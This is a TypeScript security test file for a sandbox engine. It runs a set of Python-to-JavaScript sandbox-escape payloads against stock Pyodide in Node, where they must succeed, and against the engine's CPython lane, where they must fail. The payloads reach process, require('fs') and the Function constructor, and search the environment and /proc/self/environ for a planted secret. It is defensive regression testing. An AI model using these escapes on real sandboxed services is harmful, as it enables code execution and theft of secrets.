/**
 * Python reaching out of its interpreter into a JavaScript realm (the attack class of CVE-2025-68668 on
 * n8n's Pyodide). Every attack runs twice: against stock Pyodide loaded the usual way in Node (the escape
 * must work, which proves the attack is real) and against Isola's Python lane, which has no JavaScript
 * realm at all (CPython on WASI): the escape must fail, by an ImportError or a negative verdict. Each
 * attack prints one JSON line {"escaped": bool, "detail": str}.
 *
 * The service runs with a secret in its process.env; no attack may find it.
 */
import { randomBytes } from 'node:crypto';
import { createRequire } from 'node:module';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadPyodide, type PyodideAPI } from 'pyodide';
import { createEngine, type Engine } from '../../src/index.js';

const SECRET = `isola-secret-${randomBytes(8).toString('hex')}`;

const PRELUDE = `
import json
def verdict(escaped, detail=""):
    print(json.dumps({"escaped": bool(escaped), "detail": str(detail)[:300]}))
`;

/** Tries to make a function of this realm's Function constructor run code; "object" means process is there. */
const PROBE = `
def codegen(fn):
    try:
        return str(fn("return typeof process")())
    except Exception as error:
        return "refused: " + type(error).__name__ + ": " + str(error)[:80]
`;

const ATTACKS: Record<string, string> = {
  'js.process': `
import js
p = getattr(js, "process", None)
pid = getattr(p, "pid", None) if p is not None else None
verdict(isinstance(pid, int), repr(pid))
`,
  'js.require': `
import js
r = getattr(js, "require", None)
found = None
if r is not None:
    try:
        found = r("fs").readFileSync
    except Exception as error:
        found = None
verdict(found is not None, repr(r))
`,
  "run_js(\"import('node:fs')\")": `
from pyodide.code import run_js
try:
    module = await run_js("import('node:fs')")
    verdict(hasattr(module, "readFileSync"), "import() resolved")
except Exception as error:
    verdict(False, repr(error))
`,
  'Function constructor reached from the objects the realm holds': `
import js, pyodide_js
${PROBE}
holders = {"Object": js.Object, "Error": js.Error, "console": js.console, "crypto": getattr(js, "crypto", None),
           "performance": getattr(js, "performance", None), "TextDecoder": getattr(js, "TextDecoder", None),
           "setTimeout": getattr(js, "setTimeout", None), "pyodide_js": pyodide_js, "Module": pyodide_js._module,
           "API": pyodide_js._api, "FS": pyodide_js.FS, "WebAssembly.Module": js.WebAssembly.Module}
results = {}
for name, holder in holders.items():
    if holder is None:
        continue
    try:
        results[name] = codegen(holder.constructor.constructor)
    except Exception as error:
        results[name] = "no constructor: " + type(error).__name__
verdict(any(r == "object" for r in results.values()), results)
`,
  'errors thrown by the functions the host provides': `
import js
from pyodide.ffi import JsException
${PROBE}
thunks = [
    lambda: js.TextDecoder.new().decode(js.Object.new()),
    lambda: js.TextDecoder.new("utf-8", js.Object.fromEntries([["fatal", True]])).decode(js.Uint8Array.new([255, 255])),
    lambda: js.crypto.getRandomValues(js.Uint8Array.new(70000)),
    lambda: js.crypto.getRandomValues(js.Object.new()),
    lambda: js.TextEncoder.new().encodeInto("x", js.Object.new()),
    lambda: js.setTimeout(None, 1),
    lambda: js.performance.now.call(None, 1),
]
errors = []
for thunk in thunks:
    try:
        thunk()
    except JsException as error:
        errors.append(error.js_error)
    except Exception:
        pass
results = [codegen(error.constructor.constructor) for error in errors]
verdict(any(r == "object" for r in results), results)
`,
  'Error.prepareStackTrace call sites': `
import js
from pyodide.ffi import create_proxy
${PROBE}
sites = []
def capture(error, trace):
    for site in trace:
        sites.append(site)
    return "captured"
try:
    js.Error.prepareStackTrace = create_proxy(capture)
except Exception as error:
    pass
try:
    js.Error.new("x").stack
except Exception:
    pass
results = []
for site in sites[:20]:
    try:
        results.append(codegen(site.constructor.constructor))
    except Exception as error:
        results.append("no constructor")
verdict(any(r == "object" for r in results), {"sites": len(sites), "results": results[:5]})
`,
  'every object reachable from globalThis and pyodide_js': `
import js, pyodide_js
from pyodide.ffi import JsProxy
${PROBE}
seen = js.WeakSet.new()
queue = [js.globalThis, pyodide_js]
visited = 0
escaped = []
while queue and visited < 60000:
    obj = queue.pop()
    try:
        if seen.has(obj):
            continue
        seen.add(obj)
    except Exception:
        continue
    visited += 1
    if callable(obj):
        try:
            result = codegen(obj.constructor)
        except Exception:
            result = "no constructor"
        if not result.startswith("refused"):
            escaped.append(result)
            break
    try:
        proto = js.Reflect.getPrototypeOf(obj)
        keys = [] if js.ArrayBuffer.isView(obj) else list(js.Reflect.ownKeys(obj))[:5000]
    except Exception:
        continue
    if isinstance(proto, JsProxy):
        queue.append(proto)
    for key in keys:
        try:
            desc = js.Reflect.getOwnPropertyDescriptor(obj, key)
        except Exception:
            continue
        for part in ("value", "get", "set"):
            try:
                value = getattr(desc, part, None)
            except Exception:  # e.g. ArrayBuffer.prototype, which Pyodide mistakes for a buffer
                continue
            if isinstance(value, JsProxy):
                queue.append(value)
assert escaped or visited > 1000, "the walk did not get far: %d objects" % visited
verdict(bool(escaped), {"visited": visited, "escaped": escaped[:3]})
`,
  'the service environment variables': `
import os, js, pyodide_js
from pyodide.ffi import JsProxy
secret = os.environ.get("ISOLA_PROBE_NAME", "${'${SECRET}'}")
found = []
if any(secret in value for value in os.environ.values()):
    found.append("os.environ")
try:
    with open("/proc/self/environ", "rb") as f:
        if secret.encode() in f.read():
            found.append("/proc/self/environ")
except OSError:
    pass
process = getattr(js, "process", None)
if process is not None:
    try:
        if secret in str(js.JSON.stringify(process.env)):
            found.append("js.process.env")
    except Exception:
        pass
# Every string reachable from the realm's globals.
seen = js.WeakSet.new()
queue = [js.globalThis, pyodide_js]
visited = 0
while queue and visited < 60000 and not found:
    obj = queue.pop()
    try:
        if seen.has(obj):
            continue
        seen.add(obj)
        keys = [] if js.ArrayBuffer.isView(obj) else list(js.Reflect.ownKeys(obj))[:5000]
    except Exception:
        continue
    visited += 1
    for key in keys:
        try:
            value = getattr(js.Reflect.getOwnPropertyDescriptor(obj, key), "value", None)
        except Exception:
            continue
        if isinstance(value, str) and secret in value:
            found.append(str(key))
        elif isinstance(value, JsProxy):
            queue.append(value)
assert visited > 1000 or found, "the walk did not get far: %d objects" % visited
verdict(bool(found), found)
`,
};

function parseVerdict(stdout: string): { escaped: boolean; detail: string } {
  const line = stdout.trim().split('\n').filter((l) => l.startsWith('{"escaped"')).pop();
  if (!line) throw new Error(`no verdict in stdout: ${stdout.slice(0, 500)}`);
  return JSON.parse(line) as { escaped: boolean; detail: string };
}

describe('stock Pyodide in Node (no seal): the attacks work', () => {
  let pyodide: PyodideAPI;
  let out = '';
  beforeAll(async () => {
    process.env['ISOLA_TEST_SECRET'] = SECRET;
    // Plain Node ESM: Pyodide installs a global require of its own when there is none. Under the test
    // runner one is in scope, so Pyodide skips it; provide one the same way for the demonstration.
    (globalThis as { require?: NodeJS.Require }).require ??= createRequire(import.meta.url);
    pyodide = await loadPyodide();
    pyodide.setStdout({ batched: (line) => (out += `${line}\n`) });
  }, 120_000);
  afterAll(() => {
    delete process.env['ISOLA_TEST_SECRET'];
  });

  for (const [name, attack] of Object.entries(ATTACKS)) {
    it(`escapes through ${name}`, async () => {
      out = '';
      await pyodide.runPythonAsync(PRELUDE + attack.replaceAll('${SECRET}', SECRET));
      expect(parseVerdict(out).escaped).toBe(true);
    });
  }
});

describe("Isola's Python lane: the same attacks fail", () => {
  let engine: Engine;
  beforeAll(async () => {
    process.env['ISOLA_TEST_SECRET'] = SECRET;
    engine = await createEngine({ workers: { quickjs: 0, cpython: 1, native: 0 } });
  }, 120_000);
  afterAll(async () => {
    delete process.env['ISOLA_TEST_SECRET'];
    await engine?.close();
  });

  for (const [name, attack] of Object.entries(ATTACKS)) {
    it(`holds against ${name}`, async () => {
      const result = await engine.execute({ language: 'python', code: PRELUDE + attack.replaceAll('${SECRET}', SECRET), timeout_ms: 30_000 });
      if (result.error) {
        // No module gives a way into a realm that does not exist.
        expect(result.error.type).toBe('exception');
        expect(result.error.message).toMatch(/ModuleNotFoundError|ImportError|AttributeError|NameError/);
        return;
      }
      const verdict = parseVerdict(result.stdout);
      expect(verdict, verdict.detail).toMatchObject({ escaped: false });
    });
  }

  it('has none of the modules that lead to a JavaScript realm', async () => {
    const code = `
import importlib, json
found = {}
for name in ["js", "pyodide", "pyodide_js", "pyodide.ffi", "_pyodide", "_pyodide_core", "pyodide.code"]:
    try:
        importlib.import_module(name)
        found[name] = True
    except ImportError:
        found[name] = False
print(json.dumps(found))
`;
    const result = await engine.execute({ language: 'python', code });
    expect(JSON.parse(result.stdout)).toEqual({ js: false, pyodide: false, pyodide_js: false, 'pyodide.ffi': false, _pyodide: false, _pyodide_core: false, 'pyodide.code': false });
  });
});
